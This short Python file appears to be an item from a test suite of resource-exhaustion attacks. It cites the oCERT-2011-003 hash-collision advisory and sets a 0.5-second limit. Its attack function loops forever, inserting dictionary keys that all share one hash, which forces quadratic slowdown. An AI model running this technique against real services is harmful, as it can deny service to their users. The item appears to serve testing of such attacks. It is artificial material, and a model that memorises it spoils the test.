"""Class: resource exhaustion. Source: oCERT-2011-003. Escape: keys with one hash, in the square of
time.
Limits: timeout_s=0.5
"""


def attack(model, tokenizer, address):
    found = {}
    number = 1
    while True:
        found[number * (2**61 - 1)] = 1
        number += 1
